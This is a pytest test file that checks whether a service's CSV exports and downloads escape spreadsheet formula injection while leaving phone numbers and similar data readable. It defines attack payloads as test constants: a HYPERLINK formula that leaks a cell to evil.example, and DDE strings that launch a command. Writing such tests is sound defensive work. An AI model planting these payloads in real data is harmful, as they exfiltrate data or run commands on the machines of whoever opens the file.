"""CSV formula injection: every CSV the service writes opens in a spreadsheet as plain text."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from kiosk_support import PASSWORD, login
from support import DEMO_LOADED_AT, SECRET
from test_cli import CREATE

from shared import accounts, roster, storage
from shared.db import get_db
from shared.exports import booking_rows
from shared.handover import hand_over
from shared.spreadsheets import csv_text, restore_cell, safe_cell

# What an attacker puts into a roster, a station name or a token's device name.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
FORMULA_ID = "=1+1"
AT_SUM = "@SUM(A1)"
STATION = "=cmd|' /C calc'!A0"
DEVICE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (FORMULA_ID, "'=1+1"),
        (AT_SUM, "'@SUM(A1)"),
        (STATION, "'" + STATION),
        (DEVICE, "'" + DEVICE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("   =1+1", "'   =1+1"),
        ("-", "'-"),
        ("+", "'+"),
        # data that only looks like the start of a formula stays readable
        ("+8613800000000", "+8613800000000"),
        ("+86 574 8888 8888", "+86 574 8888 8888"),
        ("+1-555-0100", "+1-555-0100"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-0.25e3", "-0.25e3"),
        ("2020-02-04T12:00:00+08:00", "2020-02-04T12:00:00+08:00"),
        ("Alpha = Beta", "Alpha = Beta"),
        ("宁波示例消毒用品有限公司", "宁波示例消毒用品有限公司"),
        ("", ""),
        (42, 42),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell_escapes_what_a_spreadsheet_would_run(cell, written):
    assert safe_cell(cell) == written
    if isinstance(cell, str):
        assert restore_cell(str(written)) == cell


def test_restore_leaves_an_ordinary_quote_alone():
    assert restore_cell("'quoted'") == "'quoted'"
    assert restore_cell("'") == "'"
    assert restore_cell("'-5") == "'-5"  # -5 was never escaped, so this quote is the data's


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_text_neutralises_every_cell_and_reads_back():
    text = csv_text(["name", "=header"], [[HYPERLINK, 1], ["+8613800000000", AT_SUM]])
    cells = _cells(text)
    assert cells == ["name", "'=header", "'" + HYPERLINK, "1", "+8613800000000", "'@SUM(A1)"]
    assert [restore_cell(cell) for cell in cells][2] == HYPERLINK


def _plain_csv(rows: list[tuple[str, ...]]) -> str:
    """CSV as an attacker's spreadsheet would save it: the cells verbatim."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue()


PLANTED = _plain_csv(
    [
        ("name", "external_id", "town", "requested_units", "contact_name", "phone", "language"),
        (HYPERLINK, FORMULA_ID, "Yuelin", "30", AT_SUM, "+8613800000057", "en"),
        ("Beta Ltd", "B-2", "-Xikou", "10", "Wang", "+86 138 0000 0002", "zh"),
    ]
)


@pytest.fixture
def planted(app, runner, tmp_path):
    """A distribution whose roster, station and token device carry formulas, handed over."""
    path = tmp_path / "planted.csv"
    path.write_text(PLANTED, encoding="utf-8")
    app.config["CLOCK"] = lambda: DEMO_LOADED_AT  # the morning of the windows' day
    for args in (CREATE, ["import-roster", str(path)], ["allocate"], ["schedule"]):
        result = runner.invoke(args=args)
        assert result.exit_code == 0, result.output
    with app.app_context():
        db = get_db()
        accounts.create_user(db, "ada", PASSWORD, "admin", DEMO_LOADED_AT, "test")
        rows = sorted(booking_rows(db, 1, DEMO_LOADED_AT), key=lambda r: r["recipient"])
        for row, (staff, station) in zip(
            rows, [("alice", STATION), (f"api:{DEVICE}", DEVICE)], strict=True
        ):
            at = datetime.fromisoformat(row["slot_start"])
            hand_over(db, row["voucher_code"], SECRET.encode(), at, staff, station, 1)
    return app


def _assert_neutral(text: str) -> None:
    for cell in _cells(text):
        assert not cell.lstrip(" ").startswith(("=", "@", "\t", "\r")), cell
        if cell.startswith(("+", "-")):
            assert cell.replace(" ", "").lstrip("+-").replace(".", "").isdigit(), cell


def test_exports_from_the_cli_neutralise_planted_formulas(planted, runner):
    bookings = runner.invoke(args=["export", "bookings"]).stdout
    ledger = runner.invoke(args=["export", "ledger"]).stdout
    for text in (bookings, ledger):
        _assert_neutral(text)
    cells = set(_cells(bookings) + _cells(ledger))
    assert {"'" + HYPERLINK, "'" + FORMULA_ID, "'" + STATION, "'" + DEVICE} <= cells
    assert f"api:{DEVICE}" in cells  # does not start a formula, so it is left as it is
    assert "'-Xikou" in cells and "+8613800000057" in cells  # the phone stays a phone


def test_console_downloads_neutralise_planted_formulas(planted, runner):
    client = planted.test_client()
    login(client, "ada")
    for path, command in (
        ("/admin/d/1/bookings.csv", "bookings"),
        ("/admin/d/1/ledger.csv", "ledger"),
    ):
        response = client.get(path)
        assert response.status_code == 200
        text = response.data.decode("utf-8-sig")
        _assert_neutral(text)
        assert text == runner.invoke(args=["export", command]).stdout
    assert "'" + HYPERLINK in _cells(client.get("/admin/d/1/bookings.csv").data.decode("utf-8-sig"))


def test_a_roster_written_as_csv_imports_again_unchanged(planted):
    """Roster rows written through the one CSV writer come back as the same values."""
    with planted.app_context():
        recipients = storage.list_recipients(get_db(), 1)
    columns = (
        "name",
        "external_id",
        "town",
        "requested_units",
        "contact_name",
        "phone",
        "language",
    )
    text = csv_text(columns, [[r[c] for c in columns] for r in recipients])
    assert "'" + HYPERLINK in _cells(text)
    again = roster.parse_roster(text)
    assert [{c: row[c] for c in columns} for row in again] == [
        {c: r[c] for c in columns} for r in recipients
    ]
    assert again[0]["name"] == HYPERLINK and again[0]["contact_name"] == AT_SUM


def test_the_roster_template_goes_through_the_same_writer():
    assert roster.template_csv().startswith(",".join(roster.COLUMNS) + "\r\n")
    assert "+86 574 8888 8888" in _cells(roster.template_csv())
